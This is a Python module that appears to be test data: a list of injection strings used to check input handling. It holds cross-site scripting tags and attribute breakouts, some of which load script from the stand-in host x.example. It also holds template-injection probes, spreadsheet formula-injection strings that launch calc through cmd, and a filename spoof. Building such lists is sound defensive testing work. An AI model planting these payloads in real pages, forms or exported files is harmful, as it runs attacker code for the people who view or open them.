"""Strings that do harm where somebody takes them for more than text."""

_MARK = "window.__hit=1"

_TAGS = [
    "<script>{m}</script>", "<ScRiPt>{m}</sCrIpT>", "<script src=//x.example>",
    "</script><script>{m}</script>", "<img src=x onerror={m}>",
    "<img src=x onerror='{m}'>", '<img src="x" onerror="{m}">',
    "<svg onload={m}>", "<svg/onload={m}>", "<svg><script>{m}</script></svg>",
    "<body onload={m}>", "<iframe srcdoc='<script>{m}</script>'>",
    "<iframe src=javascript:{m}>", "<object data=javascript:{m}>",
    "<embed src=javascript:{m}>", "<base href=//x.example/>",
    "<math><mi xlink:href=javascript:{m}>", "<details open ontoggle={m}>",
    "<video><source onerror={m}></video>", "<audio src=x onerror={m}>",
    "<input autofocus onfocus={m}>", "<select autofocus onfocus={m}>",
    "<textarea autofocus onfocus={m}>", "<marquee onstart={m}>",
    "<form action=javascript:{m}><button>x", "<a href=javascript:{m}>x</a>",
    "<style>@import '//x.example';</style>", "<link rel=stylesheet href=//x>",
    "<meta http-equiv=refresh content='0;url=javascript:{m}'>",
    "<template><script>{m}</script></template>",
    "<div hx-get=/console/ hx-trigger=load>", "<div hx-on:click={m}>",
    "<noscript><p title='</noscript><img src=x onerror={m}>'>",
    "<!--><img src=x onerror={m}>-->", "<![CDATA[<script>{m}</script>]]>",
]  # fmt: skip
_OUT = [
    '"><script>{m}</script>', "'><script>{m}</script>",
    '"><img src=x onerror={m}>', "' onmouseover='{m}", '" onmouseover="{m}',
    '" autofocus onfocus="{m}', "</textarea><script>{m}</script>",
    "</title><script>{m}</script>", "</pre><script>{m}</script>",
    "</select><img src=x onerror={m}>", "--><script>{m}</script>",
]  # fmt: skip
_OTHERS = [
    "javascript:{m}", "{{{{ 7*7 }}}}", "{{% raw %}}", "${{{m}}}", "#{{{m}}}",
    '=HYPERLINK("http://x.example","x")', "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C'",
    "\t=1+1", "\r=1+1", "&lt;script&gt;{m}&lt;/script&gt;",
    "\u202egnp.exe", "%3Cscript%3E{m}%3C/script%3E",
]  # fmt: skip

HOSTILE = [text.format(m=_MARK) for text in (*_TAGS, *_OUT, *_OTHERS)]
